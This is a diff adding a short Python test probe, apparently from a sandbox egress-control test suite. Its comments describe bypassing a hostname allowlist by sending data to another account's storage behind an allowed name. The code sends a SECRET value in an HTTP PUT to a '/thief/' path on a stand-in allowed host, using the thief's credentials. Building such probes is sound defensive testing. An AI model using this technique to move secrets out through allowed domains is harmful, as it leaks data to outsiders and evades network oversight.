@@ -1,0 +1,14 @@
+# class: network
+# rule: outbound_connectivity
+# policy: shared.yaml
+# success: data goes to another account's place behind an allowed name, with that account's key
+# proof: word
+# needs: resolver
+# open: a name bounds the host, not the account behind it; VPC endpoint policies do
+from attack import SECRET, at_allowed, attempt
+
+
+@attempt
+def put():
+    request = "PUT /thief/" + SECRET + " HTTP/1.1\r\nHost: plain.allowed.example\r\nAuthorization: thief\r\n\r\n"
+    return at_allowed(lambda out: out.send(request.encode()), "plain.allowed.example", 80)
